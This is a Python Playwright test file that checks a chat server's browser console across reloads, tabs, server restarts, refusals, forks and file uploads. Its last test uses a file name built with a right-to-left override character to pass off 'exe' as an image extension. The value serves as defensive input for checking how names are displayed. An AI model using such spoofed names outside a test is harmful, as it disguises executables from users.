"""The console in a real browser: what it shows over reloads, other tabs and the end of its server, and that
no text of a model becomes anything but text.

One server and one browser serve all tests; the test that ends the server starts it again at the same port.
"""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from importlib.resources import files
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import parse_qsl, urlsplit

import httpx
import pytest

from tests.support.chromium import CHROMIUM, MARKS
from tests.support.processes import ROOT, free_port

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page, Route

pytestmark = MARKS

PATIENCE_MS = 60_000

SERVE = """
import functools, sys
import engine
from engine.backends.script import Say, obey

def script(request, prompt):
    if "a long story" not in prompt:
        yield from obey(request, prompt)
        return
    for number in range(260):
        lines = (f"Line {number}.{line} of *text*. " + "x" * 180 for line in range(20))
        yield Say("".join(line + "\\n\\n" for line in lines), whole=True)

engine.ScriptedEngine = functools.partial(engine.ScriptedEngine, script, max_model_len=3_000_000)
from server.cli import main
sys.exit(main())
"""
"""The server's own entry, whose model tells stories of a megabyte, too."""


@dataclass
class Server:
    """`antiphon serve` at a port that stays the same over its ends."""

    data: Path
    port: int
    more: tuple[str, ...] = ()
    process: subprocess.Popen[bytes] | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def runs(self) -> bool:
        return self.process is not None and self.process.poll() is None

    def start(self) -> None:
        """Start it; whoever needs it to be ready waits for that."""
        arguments = ("serve", "--engine", "scripted", "--port", str(self.port), "--data", str(self.data))
        self.process = subprocess.Popen(
            [sys.executable, "-c", SERVE, *arguments, *self.more],
            cwd=ROOT,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )

    def wait(self) -> None:
        """Wait until it is ready."""
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            try:
                if httpx.get(f"{self.url}/ready").status_code == 200:
                    return
            except httpx.TransportError:
                pass
            time.sleep(0.05)
        raise AssertionError("the server did not start")

    def kill(self) -> None:
        """End it as `kill -9` does."""
        assert self.process is not None
        self.process.send_signal(signal.SIGKILL)
        self.process.wait()

    def post(self, path: str, body: dict[str, Any]) -> dict[str, Any]:
        """Ask the server for something by its API."""
        reply = httpx.post(f"{self.url}{path}", json=body, timeout=30)
        assert reply.status_code == 200, reply.text
        found: dict[str, Any] = reply.json()
        return found

    def get(self, path: str) -> dict[str, Any]:
        """What stands at a path."""
        found: dict[str, Any] = httpx.get(f"{self.url}{path}", timeout=30).json()
        return found


@contextmanager
def serving(data: Path, *more: str) -> Iterator[Server]:
    """A server that is ready, with these flags besides."""
    made = Server(data, free_port(), more)
    made.start()
    made.wait()
    yield made
    made.kill()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with serving(tmp_path_factory.mktemp("data")) as made:
        yield made


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as driver:
        opened = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield opened
        opened.close()


class Visit:
    """Pages of one visitor, and what went wrong in them."""

    def __init__(self, context: BrowserContext, url: str) -> None:
        self._context = context
        self.url = url
        self.problems: list[str] = []
        self.elsewhere: list[str] = []

    def page(self, where: str = "#/chat", ready: str = "h1") -> Page:
        """Open a page; every error of its scripts and every request to another host is kept."""
        page = self._context.new_page()
        page.set_default_timeout(PATIENCE_MS)
        page.on("pageerror", lambda error: self.problems.append(str(error)))
        page.on("console", self._hear)
        page.on("request", self._see)
        page.goto(f"{self.url}/{where}")
        page.wait_for_selector(ready)
        return page

    def _hear(self, message: Any) -> None:
        # That a server is away, or refuses, is told by the browser itself, and no fault of the page.
        if message.type == "error" and not message.text.startswith("Failed to load resource"):
            self.problems.append(message.text)

    def _see(self, request: Any) -> None:
        if not request.url.startswith((self.url, "data:", "blob:")):
            self.elsewhere.append(request.url)


@contextmanager
def visiting(browser: Browser, server: Server) -> Iterator[Visit]:
    """A visitor of a server, in whose pages nothing may go wrong."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    visitor = Visit(context, server.url)
    yield visitor
    context.close()
    assert visitor.problems == [] and visitor.elsewhere == []


@pytest.fixture
def visit(browser: Browser, server: Server) -> Iterator[Visit]:
    if not server.runs:  # a test that failed may have left it ended, which is not the next one's fault
        server.start()
        server.wait()
    with visiting(browser, server) as visitor:
        yield visitor


def until(page: Page, script: str, arg: object = None) -> None:
    """Wait until a script says true. Playwright's own way of waiting is forbidden by the page's policy."""
    deadline = time.monotonic() + PATIENCE_MS / 1000
    while not page.evaluate(script, arg):
        assert time.monotonic() < deadline, (
            f"{script} ({arg!r}) has not come true:\n{page.inner_text('body')[:2000]}"
        )
        page.wait_for_timeout(40)


def ask(page: Page, text: str) -> None:
    """Send a message, and wait until its answer has begun."""
    page.fill("#composer", text)
    page.press("#composer", "Enter")
    page.wait_for_selector(".turn.assistant")
    until(page, "location.hash.includes('conv_')")


def counted(number: int) -> str:
    return " ".join(str(each) for each in range(1, number + 1))


def says(page: Page, text: str) -> None:
    """Wait until the last answer is this one, and has ended."""
    until(
        page,
        """(text) => {
          const turns = [...document.querySelectorAll('.turn.assistant')];
          const prose = turns.at(-1)?.querySelector('.prose');
          return prose?.textContent.trim() === text && !document.querySelector('[aria-label=Stop]');
        }""",
        arg=text,
    )


def was_asked(page: Page, *texts: str) -> None:
    """Wait until these are the messages of the user that are shown."""
    until(
        page,
        """(texts) => JSON.stringify(texts) === JSON.stringify(
          [...document.querySelectorAll('.turn.user')].map((turn) => turn.innerText.trim()))""",
        arg=list(texts),
    )


def begun(page: Page) -> None:
    """Wait until some, and not all, of an answer is shown."""
    until(page, "document.querySelector('.turn.assistant .prose')?.textContent.length > 10")


# ------------------------------------------------------------------------------------------------------------
# Answers


REFUSAL = {
    "error": {
        "message": "Too many requests.",
        "type": "rate_limit_error",
        "param": None,
        "code": "rate_limited",
    }
}


def test_an_answer_is_streamed_and_goes_on_after_a_reload_and_in_another_tab(visit: Visit) -> None:
    page = visit.page()
    ask(page, "tick 25\ncount 60")
    begun(page)
    other = visit.page(page.evaluate("location.hash"))
    page.reload()
    says(page, counted(60))
    says(other, counted(60))
    assert page.locator(".turn.user").count() == 1
    # What one tab says now, the other one is shown without a reload.
    ask(other, "tick 1\nsay said elsewhere")
    says(other, "said elsewhere")
    says(page, "said elsewhere")
    # Of two that speak at once one is told that another answer is made, is shown it, and keeps what it wrote.
    ask(page, "tick 100\ncount 70")
    until(page, "[...document.querySelectorAll('.turn.assistant .prose')].at(-1).textContent.startsWith('1')")
    other.fill("#composer", "say too late")
    other.press("#composer", "Enter")
    other.wait_for_selector("text=/an(other)? answer .*is being made/i")
    says(other, counted(70))
    assert other.input_value("#composer") == "say too late"


def test_the_end_of_the_server_is_survived(visit: Visit, server: Server) -> None:
    answered, asking, runs = visit.page(), visit.page(), visit.page("#/runs")
    ask(asking, "say first")
    says(asking, "first")
    ask(answered, "tick 25\ncount 80")
    begun(answered)
    server.kill()
    answered.wait_for_selector(".banner >> text=cannot be reached")
    before = answered.inner_text(".turn.assistant .prose")
    assert 10 < len(before) < len(counted(80))
    # A message that is sent now is carried out once there is a server again, and once.
    asking.fill("#composer", "say second")
    asking.press("#composer", "Enter")
    for page in (asking, runs):
        page.wait_for_selector(".banner >> text=cannot be reached")
    was_asked(asking, "say first", "say second")
    # A page that is opened now is loaded by itself later, and says once that the server is away.
    asking.click("nav >> text=Usage")
    asking.wait_for_selector("h1 >> text=Usage")
    asking.go_back()
    asking.wait_for_selector("#composer")
    assert asking.locator(".failure").count() == 0
    runs.wait_for_selector("nav .connection >> text=Reconnecting")
    server.start()
    server.wait()
    says(answered, counted(80))
    answered.wait_for_selector("text=Reconnecting", state="detached")
    # It says, also after its end, that it has outlived the server.
    answered.click(".turn.assistant .meta >> text=continued after a restart")
    answered.wait_for_selector(".facts >> text=continued after a restart")
    says(asking, "second")
    asking.wait_for_selector("#title >> text=say first")
    asking.wait_for_selector(".side-list >> text=say first")
    asking.wait_for_selector(".model option >> text=scripted", state="attached")
    was_asked(asking, "say first", "say second")
    conversation = re.search(r"conv_\w+", asking.url)
    assert conversation is not None
    items = server.get(f"/v1/conversations/{conversation[0]}/items")["data"]
    assert [item["role"] for item in items] == ["assistant", "user", "assistant", "user"]
    runs.wait_for_selector(".banner", state="detached")
    runs.wait_for_selector("nav .connection >> text=Connected")


def test_a_server_that_ends_is_not_said_to_start(visit: Visit) -> None:
    page = visit.page()
    error = {"message": "The server is shutting down and takes no new work.", "code": "draining"}

    def drains(route: Route) -> None:
        if route.request.method == "POST" or route.request.url.endswith("/ready"):
            route.fulfill(status=503, json={"error": error})
        else:
            route.continue_()  # what reads is answered to the end

    page.route("**/*", drains)
    page.fill("#composer", "say later")
    page.press("#composer", "Enter")
    page.wait_for_selector(".banner >> text=The server is ending. Everything goes on by itself")
    page.wait_for_selector("nav .connection.ending >> text=Ending")
    with page.expect_response(lambda reply: "/v1/files" in reply.url and reply.ok):
        page.evaluate("location.hash = '#/files'")
    page.wait_for_selector("main >> text=No files yet")
    assert page.locator("nav .connection.ending").count(), "it ends, though it was read from"
    page.evaluate("location.hash = '#/chat'")
    page.unroute("**/*", drains)
    says(page, "later")
    page.wait_for_selector(".banner", state="detached")


def test_the_side_shows_what_is_being_answered_without_asking_for_responses(
    visit: Visit, server: Server
) -> None:
    asked: list[str] = []
    talk = server.post("/v1/conversations", {"title": "Long talk"})["id"]
    turn = {"input": "tick 25\ncount 5000", "conversation": talk, "background": True}
    response = server.post("/v1/responses", turn)["id"]
    page = visit.page("#/usage")
    page.on("request", lambda request: asked.append(request.url))
    page.evaluate("location.hash = '#/chat'")
    page.wait_for_selector(".side-list li:has-text('Long talk') .pulse")
    server.post(f"/v1/responses/{response}/cancel", {})
    assert not [url for url in asked if "/v1/responses" in url]


def test_what_is_refused_stays_where_it_was_written(visit: Visit, server: Server) -> None:
    page = visit.page()

    def refuse(route: Route) -> None:
        if route.request.method == "POST":
            route.fulfill(status=429, json=REFUSAL)
        else:
            route.continue_()

    for words in ("say a first thing", "say a second thing"):
        page.route("**/v1/responses", refuse)
        page.fill("#composer", words)
        page.press("#composer", "Enter")
        page.wait_for_selector("text=Too many requests.")
        page.wait_for_function("words => document.getElementById('composer').value === words", arg=words)
        page.unroute("**/v1/responses", refuse)
        page.reload()
        page.wait_for_function("words => document.getElementById('composer').value === words", arg=words)
        if words == "say a first thing":
            assert words not in titles(server), "nothing was said, so there is no conversation"
        page.press("#composer", "Enter")
        says(page, words.removeprefix("say "))
    assert page.input_value("#composer") == ""


def titles(server: Server) -> list[str | None]:
    """The titles of the conversations that there are."""
    return [each.get("title") for each in server.get("/v1/conversations?limit=100")["data"]]


class Held:
    """Keeps single requests of a page for a response from the server."""

    def __init__(self, page: Page) -> None:
        self._page = page
        self._wanted = False
        self._held: list[Route] = []
        page.route("**/v1/responses", self._hold)

    def _hold(self, route: Route) -> None:
        if self._wanted and route.request.method == "POST":
            self._wanted = False
            self._held.append(route)
        else:
            route.continue_()

    def say(self, text: str) -> Route:
        """Send a message, of which the server hears nothing until the route that is returned is continued."""
        self._wanted = True
        self._held.clear()
        self._page.fill("#composer", text)
        self._page.press("#composer", "Enter")
        while not self._held:
            self._page.wait_for_timeout(20)
        return self._held[0]


def wrote(page: Page, text: str) -> None:
    """Wait until this stands in the box of the message."""
    until(page, "(text) => document.getElementById('composer')?.value === text", arg=text)


SENT = "Object.keys(sessionStorage).filter((name) => name.startsWith('antiphon.sent.')).length"
"""How many messages are on their way."""


def test_a_message_on_its_way_outlives_a_reload_and_is_said_once(visit: Visit, server: Server) -> None:
    page = visit.page()
    held = Held(page)
    ask(page, "say first")
    says(page, "first")
    held.say("say second")
    page.wait_for_selector(".turn.assistant >> text=Not sent yet")
    assert page.input_value("#composer") == ""
    assert page.evaluate("JSON.stringify(sessionStorage)").count("say second") == 1  # there is little room
    page.reload()
    says(page, "second")
    held.say("say third").fetch()  # the server has taken it, of which the page hears nothing
    for _ in range(2):
        page.reload()
        says(page, "third")
        was_asked(page, "say first", "say second", "say third")
    assert page.evaluate(SENT) == 0
    # One that is much older is not sent by itself.
    held.say("say fourth")
    page.evaluate(
        """for (const name of Object.keys(sessionStorage)) {
             if (!name.startsWith('antiphon.sent.')) continue;
             const sent = JSON.parse(sessionStorage[name]);
             sessionStorage[name] = JSON.stringify({ ...sent, at: sent.at - 2 * 3600 * 1000 });
           }"""
    )
    page.reload()
    wrote(page, "say fourth")
    was_asked(page, "say first", "say second", "say third")


def test_a_message_too_large_to_be_kept_stays_a_draft_until_it_is_taken(visit: Visit) -> None:
    page = visit.page()
    held = Held(page)
    ask(page, "say first")
    says(page, "first")
    no_room = """() => {
      const { setItem } = Storage.prototype;
      Storage.prototype.setItem = function (name, value) {
        if (name.startsWith('antiphon.sent.')) throw new DOMException('full', 'QuotaExceededError');
        setItem.call(this, name, value);
      };
    }"""
    page.evaluate(no_room)
    held.say("say second")
    page.wait_for_selector(".turn.assistant >> text=Not sent yet")
    page.reload()
    wrote(page, "say second")
    was_asked(page, "say first")
    page.evaluate(no_room)
    held.say("say second").fulfill(status=429, json=REFUSAL)
    page.wait_for_selector("text=Too many requests.")
    wrote(page, "say second")
    held.say("say second").continue_()
    says(page, "second")
    wrote(page, "")


def test_what_is_refused_later_or_unseen_goes_back_to_where_it_was_written(
    visit: Visit, server: Server
) -> None:
    page = visit.page()
    held = Held(page)
    content = {"name": "notes.txt", "mimeType": "text/plain", "buffer": b"The attic is dry."}
    page.set_input_files("input[type=file]", content)
    page.wait_for_selector(".attached >> text=17 B")
    route = held.say("say what is in it")
    until(page, "location.hash.includes('conv_')")  # shown there, as it takes long
    conversation = page.url.rpartition("/")[2]
    assert server.get(f"/v1/conversations/{conversation}")["title"] == "say what is in it"
    route.fulfill(status=429, json=REFUSAL)
    page.wait_for_selector("text=Too many requests.")
    for _ in range(2):
        page.wait_for_selector("#title >> text=New chat")
        wrote(page, "say what is in it")
        page.wait_for_selector(".attached >> text=17 B")
        page.reload()
    assert httpx.get(f"{server.url}/v1/conversations/{conversation}").status_code == 404
    page.click(".attached button")
    # It is the same where somebody else has deleted the conversation meanwhile.
    route = held.say("say it once more")
    until(page, "location.hash.includes('conv_')")
    assert httpx.delete(f"{server.url}/v1/conversations/{page.url.rpartition('/')[2]}").status_code == 200
    route.continue_()
    page.wait_for_selector("#title >> text=New chat")
    wrote(page, "say it once more")
    ask(page, "say begun")
    says(page, "begun")
    where = page.evaluate("location.hash")
    route = held.say("say it elsewhere")
    page.click("nav >> text=Usage")
    page.wait_for_selector("h1 >> text=Usage")
    route.fulfill(status=429, json=REFUSAL)
    until(page, f"{SENT} === 0")
    page.evaluate("(where) => { location.hash = where; }", where)
    page.wait_for_selector("text=Too many requests.")
    for _ in range(2):
        wrote(page, "say it elsewhere")
        was_asked(page, "say begun")
        page.reload()


def test_a_first_message_is_sent_once_when_there_is_a_server(visit: Visit, server: Server) -> None:
    page = visit.page()
    page.wait_for_selector(".model option >> text=scripted", state="attached")
    server.kill()
    page.fill("#composer", "say here again")
    page.press("#composer", "Enter")
    for _ in range(2):  # also after a look at another page
        page.wait_for_selector("text=This is sent as soon as the server can be reached.")
        page.wait_for_selector(".turn.assistant >> text=Not sent yet")
        was_asked(page, "say here again")
        wrote(page, "")
        page.click("nav >> text=Runs")
        page.wait_for_selector("h1 >> text=Runs")
        page.click("nav >> text=Chat")
    page.fill("#composer", "say and then")
    page.press("#composer", "Enter")
    server.start()
    server.wait()
    says(page, "here again")
    wrote(page, "say and then")  # it was written behind the first message
    assert titles(server).count("say here again") == 1 and "say and then" not in titles(server)
    page.click("text=New chat")
    page.wait_for_selector("#title >> text=New chat")
    wrote(page, "")


def test_the_end_of_an_answer_stays_in_sight_while_a_long_message_is_written(visit: Visit) -> None:
    at_end = """() => {
      const { scrollHeight, scrollTop, clientHeight } = document.querySelector('.scroller');
      return scrollHeight > clientHeight && scrollHeight - scrollTop - clientHeight < 2;
    }"""
    page = visit.page()
    ask(page, "count 2000")
    says(page, counted(2000))
    until(page, at_end)
    before = page.evaluate("document.querySelector('.scroller').clientHeight")
    page.fill("#composer", "line\n" * 9)
    until(page, "before => document.querySelector('.scroller').clientHeight < before - 50", before)
    until(page, at_end)


def test_what_is_typed_behind_a_first_message_stays_in_one_piece(visit: Visit) -> None:
    page = visit.page()
    held: list[Route] = []
    page.route("**/v1/conversations", lambda route: held.append(route))
    page.fill("#composer", "say hello")
    page.press("#composer", "Enter")
    page.keyboard.type("second question ")
    was_asked(page, "say hello")
    wrote(page, "second question ")
    while not held:
        page.wait_for_timeout(20)
    held[0].continue_()
    page.keyboard.type("here please, " * 8, delay=5)
    says(page, "hello")
    page.keyboard.type("now")
    wrote(page, "second question " + "here please, " * 8 + "now")


def test_a_file_for_the_second_message_goes_along_while_it_is_uploaded(visit: Visit) -> None:
    page = visit.page()
    opening: list[Route] = []
    uploading: list[Route] = []
    page.route("**/v1/conversations", lambda route: opening.append(route))
    page.route("**/v1/files", lambda route: uploading.append(route))
    page.fill("#composer", "say hello")
    page.press("#composer", "Enter")
    page.set_input_files("input[type=file]", {"name": "a.txt", "mimeType": "text/plain", "buffer": b"a"})
    while not (opening and uploading):
        page.wait_for_timeout(20)
    opening[0].continue_()
    says(page, "hello")
    page.wait_for_selector(".attached >> text=uploading")
    uploading[0].continue_()
    page.wait_for_selector(".attached >> text=1 B")


def test_a_reload_while_a_conversation_is_made_leaves_no_other_one(visit: Visit, server: Server) -> None:
    page = visit.page()
    held: list[Route] = []
    page.route("**/v1/conversations", lambda route: held.append(route))
    page.fill("#composer", "say in one conversation")
    page.press("#composer", "Enter")
    while not held:
        page.wait_for_timeout(20)
    held[0].fetch()  # the server has made it, of which the page hears nothing
    page.unroute("**/v1/conversations")
    page.reload()
    says(page, "in one conversation")
    assert titles(server).count("say in one conversation") == 1 and page.evaluate(SENT) == 0


def test_a_conversation_that_is_deleted_elsewhere_is_over(visit: Visit, server: Server) -> None:
    page = visit.page()
    ask(page, "say one")
    says(page, "one")
    page.fill("#composer", "my draft")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    path = f"/v1/conversations/{page.url.rpartition('/')[2]}"
    assert httpx.delete(server.url + path).status_code == 200
    for said in ("This conversation was deleted.", "There is no such conversation."):
        page.wait_for_selector(f".notice >> text={said}")
        assert page.is_disabled("#composer")
        asked.clear()
        page.wait_for_timeout(4000)  # longer than between two looks
        assert [url for url in asked if path in url] == []
        page.reload()
    page.click("text=Take what you wrote to a new chat")
    page.wait_for_selector("#title >> text=New chat")
    wrote(page, "my draft")
    # One that is deleted here is not come back to.
    ask(page, "tick 20\ncount 2000")
    begun(page)
    deleted = page.url
    page.click("[aria-label=More]")
    page.click("text=Delete >> nth=-1")
    page.click("dialog >> text=Delete >> nth=-1")
    page.wait_for_selector("#title >> text=New chat")
    page.go_back()
    page.wait_for_selector("#title >> text=New chat")
    assert page.url != deleted


def test_a_conversation_that_is_deleted_while_it_answers_is_asked_for_once(
    visit: Visit, server: Server
) -> None:
    page = visit.page()
    ask(page, "tick 20\ncount 2000")
    begun(page)
    path = f"/v1/conversations/{page.url.rpartition('/')[2]}"
    assert httpx.delete(server.url + path).status_code == 200
    page.wait_for_selector(".notice >> text=This conversation was deleted.")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.wait_for_timeout(4000)  # longer than between two looks
    assert [url for url in asked if path in url] == []


def test_an_answer_is_stopped_and_tried_again(visit: Visit) -> None:
    page = visit.page()
    ask(page, "tick 30\ncount 4000")
    begun(page)
    page.click("[aria-label=Stop]")
    page.wait_for_selector("text=This turn is not part of the conversation")
    page.reload()
    page.wait_for_selector("text=This turn is not part of the conversation")
    page.click("text=Try again")
    begun(page)
    page.wait_for_selector("[aria-label=Stop]:not([disabled])")
    page.click("[aria-label=Stop]")
    stopped = "() => document.body.innerText.split('This turn is not part of the conversation').length - 1"
    page.wait_for_function(f"{stopped} === 2")
    # What is said next leaves it where it was.
    ask(page, "say after it")
    says(page, "after it")
    page.reload()
    says(page, "after it")
    said = page.locator(".turn.user").all_inner_texts()
    assert said == ["tick 30\ncount 4000", "tick 30\ncount 4000", "say after it"]
    assert page.evaluate(stopped) == 2


@pytest.mark.long
def test_a_megabyte_is_shown_while_it_comes(visit: Visit) -> None:
    page = visit.page()
    ask(page, "Tell me a long story.")
    until(page, "document.querySelector('.turn.assistant .prose')?.textContent.includes('Line 259.19')")
    until(page, "!document.querySelector('[aria-label=Stop]')")
    text = "document.querySelector('.turn.assistant .prose').textContent.length"
    assert page.evaluate(text) > 1_000_000
    assert page.locator(".prose em").count() == 260 * 20
    page.fill("#composer", "still there")
    assert page.input_value("#composer") == "still there"


ASKED = (
    "(wanted) =>"
    " [...document.querySelectorAll('.turn.user')].map((turn) => turn.innerText).join('|') === wanted"
)
"""Whether these are the user's turns."""


def test_a_message_is_edited_in_a_fork_and_an_answer_is_made_anew(visit: Visit, server: Server) -> None:
    page = visit.page()
    ask(page, "say one")
    says(page, "one")
    ask(page, "say two")
    says(page, "two")
    first = page.url
    page.locator(".turn.user").nth(1).hover()
    page.locator("[aria-label='Edit and fork']").nth(1).click()
    page.wait_for_selector(".editing textarea:focus")
    page.keyboard.press("Escape")
    page.wait_for_selector(".editing", state="detached")
    page.locator("[aria-label='Edit and fork']").nth(1).click()
    page.wait_for_selector(".editing textarea:focus")
    page.evaluate("document.activeElement.blur()")
    page.keyboard.press("n")  # a letter of a shortcut, which is written here
    assert page.input_value(".editing textarea") == "say twon"
    page.fill(".editing textarea", "say three")
    page.keyboard.press("Shift+Enter")
    assert page.input_value(".editing textarea") == "say three\n"
    page.fill(".editing textarea", "say three")
    page.keyboard.press("Enter")
    page.wait_for_url(lambda url: url != first)
    says(page, "three")
    until(page, ASKED, arg="say one|say three")
    second = page.url
    page.click("[aria-label='Answer anew in a fork']")
    until(page, "(before) => location.href !== before", arg=second)
    says(page, "three")
    page.goto(first)
    says(page, "two")
    # The first message, too, is edited elsewhere, and stays what it was where it was said.
    page.locator("[aria-label='Edit and fork']").nth(0).click()
    page.fill(".editing textarea", "say four")
    page.keyboard.press("Enter")
    page.wait_for_url(lambda url: url != first)
    says(page, "four")
    until(page, ASKED, arg="say four")
    page.wait_for_selector("#title >> text=say four")  # by which it began, as it would have alone
    page.goto(first)
    says(page, "two")
    until(page, ASKED, arg="say one|say two")
    tree = visit.page("#/conversations", ".tree li")
    assert tree.locator(".tree li[style*='--depth: 2']").count() >= 1


def test_the_first_message_that_is_shown_is_edited_behind_those_that_are_not(
    visit: Visit, server: Server
) -> None:
    talk = server.post("/v1/conversations", {})["id"]
    for ten in range(11):
        items = [{"role": "user", "content": f"Line {ten}{one}."} for one in range(10)]
        server.post(f"/v1/conversations/{talk}/items", {"items": items})
    page = visit.page(f"#/chat/{talk}", "text=Show earlier items")
    first = page.url
    page.locator(".turn.user").first.hover()
    page.locator("[aria-label='Edit and fork']").first.click()
    assert page.input_value(".editing textarea") == "Line 10."
    page.fill(".editing textarea", "say other words")
    page.keyboard.press("Enter")
    page.wait_for_url(lambda url: url != first)
    says(page, "other words")
    until(page, ASKED, arg="|".join([f"Line 0{one}." for one in range(10)] + ["say other words"]))
    there = server.get(f"/v1/conversations/{talk}/items?limit=11&order=asc")["data"]
    assert there[-1]["content"][0]["text"] == "Line 10."  # which stays as it was


def test_a_fork_is_made_once_however_often_one_presses(visit: Visit, server: Server) -> None:
    page = visit.page()
    ask(page, "say hello")
    says(page, "hello")
    ask(page, "say once")
    says(page, "once")
    first = page.url
    forks: list[str] = []
    held: list[Route] = []
    page.on("request", lambda request: forks.extend([request.url] * request.url.endswith("/fork")))
    page.route("**/fork", lambda route: held.append(route))  # which takes long

    def go_on() -> None:
        page.wait_for_selector("[aria-label='Answer anew in a fork']:disabled")
        held.pop().continue_()
        page.wait_for_url(lambda url: url != first)

    page.locator(".turn.assistant").last.hover()
    page.dblclick("[aria-label='Answer anew in a fork']")
    go_on()
    says(page, "once")
    page.goto(first)
    says(page, "once")
    held.clear()
    page.locator(".turn.assistant").last.hover()
    page.dblclick("[aria-label='Fork behind this answer'] >> nth=-1")
    go_on()
    says(page, "once")
    page.goto(first)
    says(page, "once")
    page.locator(".turn.user").last.hover()
    page.locator("[aria-label='Edit and fork']").last.click()
    page.fill(".editing textarea", "say twice")
    for key in ("Enter", "Enter", "Escape"):
        page.press(".editing textarea", key)
    page.wait_for_selector(".editing button[type=submit]:disabled")
    page.reload()  # before there is a fork that could have it
    page.wait_for_selector(".editing textarea:focus")
    assert page.input_value(".editing textarea") == "say twice"
    held.clear()
    page.press(".editing textarea", "Enter")
    go_on()
    says(page, "twice")
    assert len(forks) == 4
    assert page.evaluate("sessionStorage.getItem('antiphon.edited')") == "null"
    held.clear()
    for place in (f"#/conversations/{first.rsplit('/', 1)[-1]}", "#/runs"):
        page.evaluate("(place) => { location.hash = place; }", place)
        if place == "#/runs":
            page.click("a.cover >> nth=0")
        page.dblclick("button:has-text('Fork'):not([aria-label])")
        page.wait_for_selector("button:has-text('Fork'):disabled")
        forked_here = page.url
        held.pop().continue_()
        page.wait_for_function("url => location.href !== url", arg=forked_here)
    assert len(forks) == 6


# ------------------------------------------------------------------------------------------------------------
# Files, tools and approvals


def test_a_file_is_attached(visit: Visit, server: Server) -> None:
    page = visit.page()
    content = {"name": "notes.txt", "mimeType": "text/plain", "buffer": b"The cellar is dry."}
    page.set_input_files("input[type=file]", content)
    page.wait_for_selector(".attached >> text=18 B")
    page.reload()
    page.wait_for_selector(".attached >> text=18 B")  # it stays with the draft
    ask(page, "What is it?")
    until(page, "document.querySelector('.turn.assistant .prose')?.textContent.includes('cellar')")
    assert page.locator(".attached").count() == 0
    page.wait_for_selector(".turn.user .chip >> text=notes.txt")
    listed = visit.page("#/files", "text=notes.txt")
    with listed.expect_download() as downloading:
        listed.click("[aria-label='Download notes.txt']")
    assert Path(downloading.value.path()).read_bytes() == b"The cellar is dry."


def test_an_upload_goes_on_while_one_looks_at_another_page(visit: Visit) -> None:
    page = visit.page()
    held: list[Route] = []
    page.route("**/v1/files", lambda route: held.append(route))
    content = {"name": "notes.txt", "mimeType": "text/plain", "buffer": b"The roof is dry."}
    page.set_input_files("input[type=file]", content)
    page.wait_for_selector(".attached >> text=uploading")
    page.click("nav >> text=Usage")
    page.wait_for_selector("h1 >> text=Usage")
    page.go_back()
    page.wait_for_selector(".attached >> text=uploading")
    held.pop().continue_()
    page.wait_for_selector(".attached >> text=16 B")
    # What a reload has cut is no attachment.
    page.set_input_files("input[type=file]", content)
    page.wait_for_selector(".attached >> text=uploading")
    page.reload()
    page.wait_for_selector(".attached >> text=16 B")
    assert page.locator(".attached li").count() == 1


def test_what_the_browser_cannot_send_is_no_server_that_is_away(visit: Visit) -> None:
    page = visit.page()
    page.route("**/v1/files", lambda route: route.abort())  # as where a file has changed since it was chosen
    page.set_input_files("input[type=file]", {"name": "a.txt", "mimeType": "text/plain", "buffer": b"a"})
    page.wait_for_selector(".toast >> text=The file cannot be read.")
    page.click("nav [aria-label='Use a key']")
    page.fill("dialog input", "sk-ключ")
    page.click("text=Use it")
    page.wait_for_selector("dialog >> text=A key consists of plain letters, digits and signs.")
    page.keyboard.press("Escape")
    assert page.locator(".banner").count() == 0


def test_of_files_that_are_uploaded_the_one_that_is_refused_is_named(visit: Visit) -> None:
    page = visit.page("#/files")
    error = {"message": "A file, or a part of one, may have 9 bytes.", "code": "request_too_large"}

    def refuse(route: Route) -> None:
        if b"large.txt" in (route.request.post_data_buffer or b""):
            route.fulfill(status=413, json={"error": error})
        else:
            route.continue_()

    page.route("**/v1/files", refuse)
    names = ("small one.txt", "large.txt")
    chosen = [{"name": name, "mimeType": "text/plain", "buffer": b"a"} for name in names]
    page.set_input_files("input[type=file]", chosen)
    page.wait_for_selector(".toast >> text=large.txt: A file, or a part of one, may have 9 bytes.")
    page.wait_for_selector("td >> text=small one.txt")


DROP = """() => {
  const folder = { kind: 'file', webkitGetAsEntry: () => ({ isDirectory: true }) };
  const file = new File(['Dry.'], 'notes.txt', { type: 'text/plain' });
  const one = { kind: 'file', webkitGetAsEntry: () => ({ isDirectory: false }), getAsFile: () => file };
  const event = new Event('drop', { bubbles: true, cancelable: true });
  event.dataTransfer = { items: [folder, one] };
  document.querySelector('.composer').dispatchEvent(event);
}"""
"""Drops a folder and a file on the composer."""

PASTE = """(types) => {
  const data = new DataTransfer();
  for (const type of types) data.setData(type, 'a table');
  data.items.add(new File(['png'], 'image.png', { type: 'image/png' }));
  const event = new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true });
  return document.getElementById('composer').dispatchEvent(event);
}"""
"""Pastes an image, and texts of these types beside it; whether the browser goes on to paste the text."""


def test_of_what_is_dropped_or_pasted_what_can_be_attached_is(visit: Visit) -> None:
    page = visit.page()
    page.evaluate(DROP)
    page.wait_for_selector(".toast >> text=A folder cannot be uploaded.")
    page.wait_for_selector(".attached >> text=4 B")
    assert page.evaluate(PASTE, ["text/plain"]) is True  # as from a spreadsheet
    assert page.evaluate(PASTE, []) is False
    page.wait_for_selector(".attached >> text=image.png")
    assert page.locator(".attached li").count() == 2


def test_names_of_files_fit_and_fake_no_end(visit: Visit, server: Server) -> None:
    page = visit.page()
    page.set_viewport_size({"width": 390, "height": 800})
    name = f"{'long ' * 40}\u202egpj.exe"
    content = {"name": name, "mimeType": "text/plain", "buffer": b"x"}
    page.set_input_files("input[type=file]", content)
    page.wait_for_selector(".attached >> text=1 B")
